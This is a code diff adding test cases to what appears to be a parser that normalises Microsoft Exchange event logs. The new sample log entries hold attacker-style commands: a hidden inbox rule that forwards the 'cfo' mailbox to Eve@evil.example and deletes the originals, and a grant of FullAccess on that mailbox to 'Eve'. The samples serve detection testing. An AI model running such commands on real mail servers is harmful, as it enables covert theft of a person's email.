@@ -122,9 +122,34 @@ MEANINGS: list[Meaning] = [
         {},
     ),
     (
+        xml(
+            "MSExchange CmdletLogs",
+            1,
+            values=["New-InboxRule", "-Name '.' -Mailbox cfo -ForwardTo (\"Eve@evil.example\") -DeleteMessage $true"],
+            channel="MSExchange Management",
+        ),
+        (ENTITY_MANAGEMENT, a.ENTITY_CREATE, SUCCESS),
+        {
+            "entity_type": "rule",
+            "entity_name": ".",
+            "email_to": ("eve@evil.example",),
+            "query_text": "Name=.; Mailbox=cfo; ForwardTo=Eve@evil.example; DeleteMessage=$true",
+        },
+    ),
+    (
+        xml(
+            "MSExchange Management",
+            1,
+            values=["Cmdlet Add-MailboxPermission, parameters {Identity=cfo, User=Eve, AccessRights=FullAccess}."],
+            channel="MSExchange Management",
+        ),
+        (ENTITY_MANAGEMENT, a.ENTITY_UPDATE, SUCCESS),
+        {"user_name": "eve", "access_list": ("FullAccess",), "entity_uid": "cfo"},
+    ),
+    (
         xml("MSExchange CmdletLogs", 1, values=["Set-Mailbox", '-Identity "cfo"'], channel="MSExchange Management"),
         (ENTITY_MANAGEMENT, a.ENTITY_UPDATE, SUCCESS),
-        {"entity_type": "Mailbox", "entity_name": "cfo"},
+        {"entity_type": "mailbox", "entity_name": "cfo", "entity_uid": "cfo"},
     ),
     (
         xml(
